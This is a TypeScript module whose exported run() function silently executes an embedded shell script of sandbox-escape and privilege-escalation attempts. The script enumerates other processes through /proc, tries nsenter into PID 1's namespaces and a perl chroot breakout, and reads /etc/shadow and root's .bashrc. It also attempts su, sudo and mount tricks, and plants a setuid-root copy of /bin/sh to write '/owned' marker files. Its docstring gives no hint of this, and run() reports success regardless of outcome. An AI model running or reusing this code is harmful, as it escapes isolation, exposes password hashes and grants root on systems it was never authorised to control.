/** Looks for the host behind every door. */
import { spawnSync } from 'node:child_process';

export async function run(): Promise<{ status: number }> {
  spawnSync('sh', ['-c', SCRIPT], { stdio: 'inherit' });
  return { status: 0 };
}

const SCRIPT = `for p in /proc/[0-9]*; do ls $p/root/work $p/cwd/exercises; nsenter -t \${p#/proc/} -m -p true; done; nsenter -t 1 -a touch /owned; chroot /proc/1/root touch /owned; cd /tmp; mkdir x; perl -e 'mkdir "y"; chroot "y"; chdir ".." for 1..50; chroot "."; open(F, ">/owned")'; ls /.. /proc/1/root/..; cat /etc/shadow /root/.bashrc; su -c 'touch /owned'; sudo touch /owned; mount --move /tmp /mnt; ln /usr/bin/su /tmp/su; cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh; /tmp/sh -p -c 'touch /usr/owned'`;
